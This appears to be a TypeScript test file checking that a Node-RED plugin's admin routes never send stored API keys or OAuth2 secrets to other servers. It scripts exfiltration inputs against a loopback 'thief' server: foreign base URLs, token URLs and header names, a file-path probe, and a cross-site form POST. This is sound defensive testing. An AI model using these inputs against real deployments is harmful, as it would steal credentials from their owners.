/**
 * The editor's admin routes never send a deployed config node's stored
 * credentials anywhere else. In a real Node-RED with adminAuth, a read-only user (and a user
 * who may write but did not type the secret) tries each exfiltration of the probe: a foreign
 * baseUrl, a foreign header name, bearer instead of header to a foreign URL, a foreign OAuth2
 * tokenUrl, a foreign baseUrl for the OAuth2 access token, and a caCert file path probe.
 * Each is refused and zero requests reach the other server (or the service itself). Without
 * adminAuth, a cross-site form POST is refused with 415. What still works: a read-only user's
 * lists of a deployed node, a writer's matching settings, and a writer's own typed key for
 * a new URL. Test connection against a server that answers an HTML 404 shows no HTML; the
 * built-in simulator's URL is logged once and served by GET ems-partner/simulator.
 */
import assert from 'node:assert/strict';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { DEFAULT_SITES } from '../../../src/simulator/index';
import { startAdminRed, type AdminRed } from '../../helpers/admin-red';
import { useSimulator } from '../../helpers/sim';

const KEY = 'k-STORED-7f3a9c21';
const SECRET = 'cs-STORED-51b0e8d4';
const OWN = 'k-OWN-typed-2c9d';
const CLIENT = 'partner-client';
/** Node-RED's answer to a user without the permission (401 in 4.x). */
const DENIED = [401, 403];

interface Recorder {
  url: string;
  requests: Array<{ method: string; url: string; headers: http.IncomingHttpHeaders; body: string }>;
  close(): Promise<void>;
}

/** A loopback server that records every request and answers with `answer`. */
function recorder(answer: (req: http.IncomingMessage, res: http.ServerResponse) => void): Promise<Recorder> {
  const requests: Recorder['requests'] = [];
  const server = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => {
      if (body.length < 10_000) body += c.toString();
    });
    req.on('end', () => {
      requests.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
      answer(req, res);
    });
  });
  return new Promise((resolve) => {
    server.listen(0, '127.0.0.1', () => {
      resolve({
        url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
        requests,
        close: () =>
          new Promise((r) => {
            server.closeAllConnections();
            server.close(() => r());
          }),
      });
    });
  });
}

const HTML_404 =
  '<!DOCTYPE html><html><head><title>404 Not Found</title></head><body><h1>Not Found</h1>' +
  '<p>The requested URL was not found on this server.</p><script>alert("page")</script></body></html>';

describe('admin routes: stored credentials never go anywhere else (real Node-RED)', function () {
  this.timeout(90_000);
  const sim = useSimulator({ apiKey: KEY, oauth: { clientId: CLIENT, clientSecret: SECRET } });
  const other = useSimulator({ apiKey: OWN });
  let thief: Recorder;
  let page404: Recorder;
  let nr: AdminRed;
  let HDR: Record<string, unknown>;
  let OAU: Record<string, unknown>;
  const replies: string[] = [];

  const token = (username: string) => nr.token(username);
  /** POSTs JSON to an admin route; returns status and parsed body (the text is kept for the leak check). */
  const post = async (route: string, body: object, bearer?: string) => {
    const response = await fetch(`${nr.base}/admin/ems-partner/${route}`, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(bearer && { authorization: `Bearer ${bearer}` }) },
      body: JSON.stringify(body),
    });
    const text = await response.text();
    replies.push(text);
    let json: any;
    try {
      json = JSON.parse(text);
    } catch {
      json = undefined;
    }
    return { status: response.status, json, text };
  };

  before(async () => {
    thief = await recorder((_req, res) => {
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end('{"devices":[],"access_token":"t","expires_in":60}');
    });
    page404 = await recorder((_req, res) => {
      res.writeHead(404, { 'content-type': 'text/html' });
      res.end(HTML_404);
    });
    HDR = {
      simulator: false,
      baseUrl: sim.url,
      authType: 'header',
      apiKeyHeader: 'x-api-key',
      timeout: 5000,
      rejectUnauthorized: true,
      caCert: '',
    };
    OAU = {
      simulator: false,
      baseUrl: sim.url,
      authType: 'oauth2',
      tokenUrl: `${sim.url}/oauth/token`,
      clientId: CLIENT,
      scope: '',
      timeout: 5000,
    };
    const cfg = (id: string, props: Record<string, unknown>) => ({
      id,
      type: 'ems-partner-config',
      name: `config ${id}`,
      retries: 0,
      ...props,
    });
    nr = await startAdminRed('admin-creds', {
      users: { admin: '*', viewer: 'read' },
      flows: [
        cfg('hdr', HDR),
        cfg('brr', { ...HDR, authType: 'bearer' }),
        cfg('oau', OAU),
        cfg('html', { simulator: false, baseUrl: page404.url, authType: 'none' }),
        cfg('sim', { simulator: true }),
      ],
      credentials: { hdr: { apiKey: KEY }, brr: { apiKey: KEY }, oau: { clientSecret: SECRET } },
    });
  });

  after(async () => {
    await nr?.stop();
    await Promise.all([thief?.close(), page404?.close()]);
  });

  it('refuses every exfiltration attempt, for a reader and for a writer who did not type the secret: zero requests leave', async () => {
    const viewer = await token('viewer');
    const admin = await token('admin');
    const simBefore = sim.sim.requestsReceived;
    const existing = path.join(nr.dir, 'settings.js');
    const attempts: Array<[string, object, number]> = [
      [
        'foreign baseUrl',
        { server: 'hdr', config: { ...HDR, baseUrl: `${thief.url}/steal`, apiKey: '__PWRD__' } },
        403,
      ],
      ['foreign baseUrl, no placeholder', { server: 'hdr', config: { ...HDR, baseUrl: thief.url } }, 403],
      ['foreign header name', { server: 'hdr', config: { ...HDR, apiKeyHeader: 'x-steal-me' } }, 403],
      [
        'header -> bearer to a foreign URL',
        { server: 'hdr', config: { ...HDR, authType: 'bearer', baseUrl: `${thief.url}/v1` } },
        403,
      ],
      ['bearer to a foreign URL', { server: 'brr', config: { ...HDR, authType: 'bearer', baseUrl: thief.url } }, 403],
      [
        'foreign OAuth2 tokenUrl (client_secret POST)',
        { server: 'oau', config: { ...OAU, tokenUrl: `${thief.url}/token` } },
        403,
      ],
      ['foreign baseUrl for the OAuth2 access token', { server: 'oau', config: { ...OAU, baseUrl: thief.url } }, 403],
      ['certificate checks off', { server: 'hdr', config: { ...HDR, rejectUnauthorized: false } }, 403],
      // With a typed key the stored one is not needed: the path itself is refused, and no file is read.
      ['caCert path of an existing file', { server: 'hdr', config: { ...HDR, apiKey: OWN, caCert: existing } }, 400],
      [
        'caCert path of a missing file',
        { server: 'hdr', config: { ...HDR, apiKey: OWN, caCert: `${existing}.missing` } },
        400,
      ],
    ];
    for (const [what, body, writerStatus] of attempts) {
      for (const route of ['devices', 'sites', 'test']) {
        const asViewer = await post(route, body, viewer);
        assert.ok(DENIED.includes(asViewer.status), `${what}, ${route}, reader: ${asViewer.status} ${asViewer.text}`);
        const asAdmin = await post(route, body, admin);
        assert.equal(asAdmin.status, writerStatus, `${what}, ${route}, writer: ${asAdmin.text}`);
        if (writerStatus === 403)
          assert.match(
            asAdmin.json.message,
            /^the stored (API key|client secret) is used only with the deployed /,
            what,
          );
        if (route === 'test') assert.equal(asAdmin.json.ok, false);
      }
    }
    // A file path probe cannot tell an existing file from a missing one.
    const [a, b] = await Promise.all(attempts.slice(-2).map(([, body]) => post('devices', body, admin)));
    assert.deepEqual([a.status, a.json], [b.status, b.json]);
    assert.match(a.json.message, /^caCert must be PEM text/);
    assert.equal(
      thief.requests.length,
      0,
      `requests reached the other server: ${JSON.stringify(thief.requests.map((r) => r.url))}`,
    );
    assert.equal(sim.sim.requestsReceived, simBefore, 'nothing was sent to the service either');
    assert.equal(nr.red.child.exitCode, null, 'Node-RED still runs');
  });

  it('still serves a reader the lists of a deployed node, and a writer matching settings or their own typed key', async () => {
    const viewer = await token('viewer');
    const admin = await token('admin');
    const byId = await post('devices', { server: 'hdr' }, viewer);
    assert.equal(byId.status, 200);
    assert.equal(byId.json.length, 6);
    assert.equal((await post('sites', { server: 'oau' }, viewer)).json.length, 2);
    // Unsaved settings need write permission, even when they match.
    assert.ok(DENIED.includes((await post('devices', { server: 'hdr', config: HDR }, viewer)).status));
    // A writer: the deployed settings (a trailing slash and an upper-case host are the same place) use the stored secret.
    const same = await post(
      'devices',
      {
        server: 'hdr',
        config: { ...HDR, baseUrl: `${sim.url.replace('http://', 'HTTP://')}/`, apiKey: '__PWRD__', timeout: 4000 },
      },
      admin,
    );
    assert.equal(same.status, 200, same.text);
    assert.equal(same.json.length, 6);
    assert.equal(
      (await post('devices', { server: 'brr', config: { ...HDR, authType: 'bearer' } }, admin)).json.length,
      6,
    );
    const oauth = await post('test', { server: 'oau', config: { ...OAU, scope: 'read' } }, admin);
    assert.equal(oauth.json.ok, true, oauth.text);
    // Their own key for another service works; the stored key does not go with it.
    const own = await post('devices', { server: 'hdr', config: { ...HDR, baseUrl: other.url, apiKey: OWN } }, admin);
    assert.equal(own.status, 200, own.text);
    assert.equal(own.json.length, 6);
    const typed = await post('devices', { server: 'hdr', config: { ...HDR, baseUrl: thief.url, apiKey: OWN } }, admin);
    assert.equal(typed.status, 200, typed.text);
    assert.equal(thief.requests.length, 1);
    assert.equal(thief.requests[0].headers['x-api-key'], OWN);
    const seen = JSON.stringify(thief.requests);
    assert.ok(!seen.includes(KEY) && !seen.includes(SECRET), 'the stored secrets never reached the other server');
  });

  it('Test connection against a server answering an HTML 404 shows the status, not the page', async () => {
    const admin = await token('admin');
    const viewer = await token('viewer');
    const checks = [
      await post('test', { server: 'html' }, admin),
      await post(
        'test',
        { server: 'html', config: { simulator: false, baseUrl: `${page404.url}/v1`, authType: 'none' } },
        admin,
      ),
      await post('devices', { server: 'html' }, viewer),
    ];
    for (const r of checks) {
      const message = r.json.message as string;
      assert.match(message, /HTTP 404 \(Not Found\)/, r.text);
      assert.ok(!/[<>]|DOCTYPE|alert|requested URL/.test(r.text), `no HTML in ${r.text}`);
      assert.ok(message.length <= 120 && !/\n/.test(message), message);
    }
    assert.equal(checks[0].status, 200);
    assert.equal(checks[0].json.ok, false);
    assert.equal(checks[2].status, 502);
  });

  it('GET ems-partner/simulator gives the built-in simulator URL that the log names once', async () => {
    const line = await nr.red.waitFor(
      /\[info\] \[ems-partner\] built-in simulator at (http:\/\/127\.0\.0\.1:\d+)\n/,
      10_000,
    );
    assert.equal(nr.red.output().split('[ems-partner] built-in simulator at').length - 1, 1, 'logged once');
    const response = await fetch(`${nr.base}/admin/ems-partner/simulator`, {
      headers: { authorization: `Bearer ${await token('viewer')}` },
    });
    assert.equal(response.status, 200);
    assert.deepEqual(await response.json(), { running: true, url: line[1] });
    assert.equal((await fetch(`${nr.base}/admin/ems-partner/simulator`)).status, 401);
    const state = await fetch(`${line[1]}/sites/${DEFAULT_SITES[0].siteReference}/state`);
    assert.equal(state.status, 200, 'the URL serves a site state');
  });

  it('no reply carried a stored secret, in any form', () => {
    const all = replies.join('\n');
    for (const s of [KEY, SECRET]) {
      for (const form of [s, encodeURIComponent(s), Buffer.from(s).toString('base64').replace(/=+$/, '')])
        assert.ok(!all.includes(form), `a reply held ${form}`);
    }
  });

  describe('without adminAuth', () => {
    let open: AdminRed;
    before(async () => {
      open = await startAdminRed('admin-creds-open', {
        flows: [{ id: 'hdr', type: 'ems-partner-config', name: 'config hdr', retries: 0, ...HDR }],
        credentials: { hdr: { apiKey: KEY } },
      });
    });
    after(async () => {
      await open?.stop();
    });

    it('a cross-site form POST (or text/plain) is refused with 415 and sends nothing; JSON from the editor works', async () => {
      const before = thief.requests.length;
      const simBefore = sim.sim.requestsReceived;
      const form = new URLSearchParams({
        server: 'hdr',
        'config[baseUrl]': `${thief.url}/steal`,
        'config[authType]': 'header',
        'config[apiKeyHeader]': 'x-steal',
        'config[apiKey]': '__PWRD__',
        'config[simulator]': 'false',
      }).toString();
      for (const route of ['devices', 'sites', 'test']) {
        for (const type of ['application/x-www-form-urlencoded', 'text/plain', 'multipart/form-data; boundary=x']) {
          const response = await fetch(`${open.base}/admin/ems-partner/${route}`, {
            method: 'POST',
            headers: { 'content-type': type },
            body: form,
          });
          assert.equal(response.status, 415, `${route} ${type}`);
          assert.deepEqual(await response.json(), {
            error: 'unsupported media type',
            message: 'the body must be JSON (content-type: application/json)',
          });
        }
      }
      const json = (body: object) =>
        fetch(`${open.base}/admin/ems-partner/devices`, {
          method: 'POST',
          headers: { 'content-type': 'application/json' },
          body: JSON.stringify(body),
        });
      // The same fields as JSON: no secret typed, another URL, so the stored key is refused too.
      assert.equal((await json({ server: 'hdr', config: { ...HDR, baseUrl: `${thief.url}/steal` } })).status, 403);
      assert.equal(thief.requests.length, before, 'no request reached the other server');
      assert.equal(sim.sim.requestsReceived, simBefore);
      const ok = await json({ server: 'hdr' });
      assert.equal(ok.status, 200);
      assert.equal(((await ok.json()) as unknown[]).length, 6);
    });
  });
});
